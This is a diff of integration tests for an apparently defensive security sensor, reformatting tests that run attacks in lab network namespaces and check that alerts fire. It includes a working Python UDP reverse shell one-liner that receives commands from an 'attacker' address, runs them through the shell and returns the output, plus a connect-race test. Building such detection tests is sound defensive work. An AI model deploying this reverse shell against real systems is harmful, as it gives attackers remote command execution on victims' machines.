     assert "fileless_exec" in alert["chainwatch"]["signals"], alert["chainwatch"]["signals"]
 
 
 # ------------------------------------------------------------------ peers as the kernel holds them
 
-UDP_SHELL = ("import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
-             "a=('{host}',{port});s.sendto(b'hi',a);c,_=s.recvfrom(4096);"
-             "s.sendto(subprocess.run(c.decode(),shell=True,capture_output=True).stdout,a)")
+UDP_SHELL = (
+    "import socket,subprocess;s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM);s.settimeout(5);"
+    "a=('{host}',{port});s.sendto(b'hi',a);c,_=s.recvfrom(4096);"
+    "s.sendto(subprocess.run(c.decode(),shell=True,capture_output=True).stdout,a)"
+)
 
 
 def test_udp_shell_with_sendto_only(sensorlab, netlab) -> None:
     """A UDP shell that never connects (sendto/recvfrom) alerts with its destination."""
     port = netlab.port()
     host = netlab.attacker_ip4
-    listener = netlab.listen_udp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))", duration=12,
-                                 max_datagrams=2)
+    listener = netlab.listen_udp(netlab.attacker_ns, port, payload=b"echo cw-$((6*7))", duration=12, max_datagrams=2)
     mark, emark = sensorlab.alert_mark(), sensorlab.mark()
-    command, token = tagged(f"python3 -c \"{UDP_SHELL.format(host=host, port=port)}\"")
+    command, token = tagged(f'python3 -c "{UDP_SHELL.format(host=host, port=port)}"')
     netlab.run(netlab.victim_ns, ["timeout", "10", "bash", "-c", command], timeout=15)
     assert b"cw-42" in listener.wait(timeout=15)
     sends = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport == port, since=emark, timeout=10)
@@ -595,12 +805,16 @@ def test_racing_sockaddr_rewrite_does_not_change_the_destination(sensorlab, netl
     netlab.listen_tcp(netlab.attacker_ns, port, duration=20, max_conns=40)
     netlab.listen_tcp(netlab.attacker_ns, decoy_port, duration=20, max_conns=40)
     mark = sensorlab.mark()
-    res = netlab.run(netlab.victim_ns, ["timeout", "15", sys.executable, "-c", RACE, host, host, str(port),
-                                        str(decoy_port)], timeout=20)
+    res = netlab.run(
+        netlab.victim_ns,
+        ["timeout", "15", sys.executable, "-c", RACE, host, host, str(port), str(decoy_port)],
+        timeout=20,
+    )
     peers = (res.stdout or b"").decode().split()
     assert peers, res
     want = {port: peers.count(f"{host}:{port}"), decoy_port: peers.count(f"{host}:{decoy_port}")}
-    seen = sensorlab.wait_for(lambda e: isinstance(e, Connect) and e.dport in want and e.result == 0, since=mark,
-                              count=len(peers), timeout=10)
+    seen = sensorlab.wait_for(
+        lambda e: isinstance(e, Connect) and e.dport in want and e.result == 0, since=mark, count=len(peers), timeout=10
+    )
     got = {p: sum(1 for e in seen if e.dport == p) for p in want}
     assert got == want  # the kernel's peer for every connect, never the buffer's other value
